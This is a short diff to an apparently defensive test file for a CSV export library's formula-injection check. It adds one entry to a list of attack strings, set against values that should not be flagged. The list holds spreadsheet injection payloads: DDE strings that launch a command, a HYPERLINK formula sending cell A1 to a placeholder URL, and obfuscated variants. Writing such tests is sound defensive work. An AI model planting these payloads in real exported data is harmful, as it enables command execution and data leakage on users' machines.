@@ -11,7 +11,7 @@ from bookbuilder.csv_files import is_formula, read_csv, write_csv
 
 ATTACKS = (
     '=HYPERLINK("http://a.b?"&A1)', "+cmd|' /C calc'!A0", "- cmd|x!A0", "@SUM(A1)", "-2+3", "-2-3", "+2*3", "-2* (3)", "\t=SUM(1)", "\r=SUM(1)", " =1", "\u200b=1",
-    "\ufeff=1", "＝1+1", "＠SUM(A1)", "－A1", "|x", "a;=cmd|'/C calc'!A0", 'a;""=cmd|x!A0', "a\t@SUM(A1)", "a\n-HYPERLINK(1)", "-" + "1" * 2000 + "+A1",
+    "\ufeff=1", "＝1+1", "＠SUM(A1)", "－A1", "|x", "a;=cmd|'/C calc'!A0", 'a;""=cmd|x!A0', "a\t@SUM(A1)", "a\n-HYPERLINK(1)", "-" + "1" * 2000 + "+A1", "-" + "*" * 400 + "A1",
 )  # fmt: skip
 HONEST = (
     "-3.2", "−3", "+5", "–", "-", "--", "+", "+/-", "++", "-1.5e-3", "-0.34***", "-0.34** (0.12)", "-€5", "+3 %", "-3–5", "-.5", "+7 701 000", "1-2", "a-b",
